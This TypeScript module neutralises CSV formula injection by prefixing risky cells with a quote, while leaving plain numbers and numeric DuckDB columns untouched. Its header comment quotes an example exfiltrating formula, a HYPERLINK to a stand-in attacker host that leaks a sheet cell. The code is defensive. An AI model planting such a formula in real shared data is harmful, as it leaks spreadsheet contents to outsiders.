/**
 * CSV fields that a spreadsheet will not run. A cell starting with `=`, `+`, `-`, `@`, a tab or a
 * carriage return is read as a formula by Excel, LibreOffice and Google Sheets, so a shared comment
 * like `=HYPERLINK("https://evil.example/?"&A1,"Click")` becomes a live link that leaks the sheet
 * (OWASP, "CSV Injection"). Such cells get a leading `'`, which spreadsheets show as text.
 *
 * Numbers stay numbers: a field that is exactly a decimal number (`-12.5`, `+3`, `1e-9`), or any value
 * of a numeric column, is data, not a formula: no function can be called from it, and prefixing it
 * would turn every negative number into text. docs/security.md states this choice.
 */

export interface CsvOptions {
  /** Write every value as it is, formulas included (for tools that read CSV, not spreadsheets). */
  raw?: boolean;
}

/** Characters that make a spreadsheet read a cell as a formula (OWASP CSV Injection). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A plain decimal number, as spreadsheets read one. */
const DECIMAL_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/**
 * The text a spreadsheet shows as it is.
 * @example neutralizeFormula('=1+2') // "'=1+2"
 * @example neutralizeFormula('-12.5') // '-12.5'
 */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) && !DECIMAL_NUMBER.test(text) ? `'${text}` : text;
}

/** One RFC 4180 field: quoted when it holds a quote, a comma or a line break; NULL is an empty field. */
export function csvField(value: unknown, numeric: boolean, options: CsvOptions = {}): string {
  if (value === null || value === undefined) return '';
  let s = String(value);
  if (!options.raw && !numeric) s = neutralizeFormula(s);
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** Whether a DuckDB column type holds numbers (its values print as numbers, or inf / nan). */
export function isNumericType(type: string): boolean {
  return /^(TINYINT|SMALLINT|INTEGER|BIGINT|HUGEINT|UTINYINT|USMALLINT|UINTEGER|UBIGINT|UHUGEINT|FLOAT|DOUBLE|REAL|DECIMAL(\(\d+,\s*\d+\))?)$/i.test(type.trim());
}
